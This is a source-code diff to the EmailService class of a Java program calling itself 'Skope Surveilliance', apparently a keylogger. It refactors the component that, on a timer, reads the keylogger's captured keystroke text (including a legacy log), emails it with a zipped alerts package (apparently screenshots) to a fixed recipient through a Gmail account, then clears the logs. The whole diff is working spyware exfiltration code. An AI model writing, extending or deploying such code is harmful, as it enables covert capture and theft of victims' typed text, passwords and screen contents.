@@ -1,9 +1,9 @@
 package com.gundersoft.skope3;
 
+import java.io.File;
 import java.io.IOException;
 import java.util.Calendar;
-import java.util.Timer;
-import java.util.TimerTask;
+import java.util.concurrent.ScheduledFuture;
 
 import javax.mail.MessagingException;
 
@@ -15,14 +15,14 @@ import javax.mail.MessagingException;
 public class EmailService {
     /** Instance of the SendMailWrapper used to easily send Gmail */
     private SendMailWrapper sendMail;
-    /** Handles dispatch triggering */
-    private Timer dispatchTimer;
+    /** Pool that dispatches run on */
+    private Scheduler.Pool dispatchPool;
+    /** Repeating dispatch, null while the service is disabled */
+    private ScheduledFuture<?> dispatchTimer;
     /** Email address that Log will be sent to. */
     private String recipient;
-    /** The keylog file */
-    private String keylogFile;
-    /** The textlog file */
-    private String textlogFile;
+    /** The keylogger whose log files are sent */
+    private Keylogger keylogger;
     /** Is the service enabled */
     private boolean enabled;
     /** Last time an email was sent */
@@ -39,22 +39,22 @@ public class EmailService {
      * @param username Gmail address to log into to send emails.
      * @param password Password to use for sending emails.
      * @param recipient Email address that will be receiving all emails.
-     * @param textlogFile The text log.
-     * @param keylogFile The key log.
+     * @param keylogger The keylogger whose logs are sent and then cleared.
      * @param lastDispatchTime The last time the email was dispatched.
      * @param dispatchInterval The number of milliseconds between dispatches.
      * @param sendImages Should images be sent, as well as text
+     * @param dispatchPool The pool that dispatches run on.
      * @param log The debug log that records errors.
      */
     public EmailService(String username, String password, String recipient, 
-			String textlogFile, String keylogFile, long lastDispatchTime,
-			long dispatchInterval, boolean sendImages, Log log) {
+			Keylogger keylogger, long lastDispatchTime,
+			long dispatchInterval, boolean sendImages, Scheduler.Pool dispatchPool,
+			Log log) {
 	this.sendMail = SendMailWrapper.getGoogleMailInstance(username, password);
 	this.sendMail.setSubject("** Skope Surveilliance Update");
-	this.dispatchTimer = new Timer();
+	this.dispatchPool = dispatchPool;
 	this.recipient = recipient;
-	this.keylogFile = keylogFile;
-	this.textlogFile = textlogFile;
+	this.keylogger = keylogger;
 	this.enabled = false;
 	this.lastDispatchTime = lastDispatchTime;
 	this.dispatchInterval = dispatchInterval;
@@ -82,7 +82,9 @@ public class EmailService {
 	    dispatch();
 			
 	    // schedule dispatch timer
-	    this.dispatchTimer.scheduleAtFixedRate(new TimerTask() {
+	    if(this.dispatchTimer != null)
+		this.dispatchTimer.cancel(false);
+	    this.dispatchTimer = this.dispatchPool.scheduleAtFixedRate(new Runnable() {
 		    @Override
 		    public void run() {
 			dispatch();
@@ -93,7 +95,10 @@ public class EmailService {
 	    log.i("Email Dispatch Service disabled.");
 			
 	    // kill service auto-send timer
-	    this.dispatchTimer.purge(); 
+	    if(this.dispatchTimer != null) {
+		this.dispatchTimer.cancel(false);
+		this.dispatchTimer = null;
+	    }
 			
 	}
     }
@@ -147,12 +152,20 @@ public class EmailService {
      */
     public void dispatch() {
 	this.log.i("Email Service dispatch() triggered. Attempting send...");
-	new Thread(new Runnable() {
+	boolean queued = this.dispatchPool.execute(new Runnable() {
 		@Override
 		public void run() {
-		    Keylogger.LogParser log;
+		    String text;
 		    try {
-			log = new Keylogger.LogParser(textlogFile);
+			String logFile = keylogger.getLogFile();
+			text = Tools.readFully(new LogReader(logFile, EventLog.VIEW_TEXT),
+					       new File(logFile).length());
+
+			// typed before the upgrade, cleared with the rest once sent
+			String legacyFile = keylogger.getLegacyTextLogFile();
+			if(legacyFile != null)
+			    text = Tools.readFully(new LogReader(legacyFile),
+						   new File(legacyFile).length()) + text;
 		    } catch (IOException e1) {
 			return;
 		    }
@@ -163,7 +176,7 @@ public class EmailService {
 						
 			    // email the alerts package
 			    EmailService.this.sendMail.sendMail(EmailService.this.recipient, "Hello,\r\n\r\nIts that time again: Skope update time." +
-								"Below is the contents of the Skope key log.\r\n\r\n\r\n" + log.getEntireLog(), "skope3-alerts.zip");
+								"Below is the contents of the Skope key log.\r\n\r\n\r\n" + text, "skope3-alerts.zip");
 						
 			    // delete alerts package
 			    Alerts.deleteAlertsPack();
@@ -173,11 +186,10 @@ public class EmailService {
 			} else {
 			    // email the log
 			    EmailService.this.sendMail.sendMail(EmailService.this.recipient, "Hello,\r\n\r\nIts that time again: Skope update time." +
-								"Below is the contents of the Skope key log.\r\n\r\n\r\n" + log.getEntireLog(), (String[]) null);
+								"Below is the contents of the Skope key log.\r\n\r\n\r\n" + text, (String[]) null);
 			}					
 					
-			new java.io.File(EmailService.this.textlogFile).delete();
-			new java.io.File(EmailService.this.keylogFile).delete();
+			EmailService.this.keylogger.clearLogs();
 					
 			// mark successful dispatch time
 			EmailService.this.lastDispatchTime = Calendar.getInstance().getTimeInMillis();
@@ -189,8 +201,9 @@ public class EmailService {
 			EmailService.this.log.e("Email Dispatch message send failed. Unable to read SkopeShot files.");
 		    }
 		}
-	    }).start();
-		
+	    });
+	if(!queued)
+	    this.log.w("Email dispatch already pending. Skipping this one.");
     }
 
 }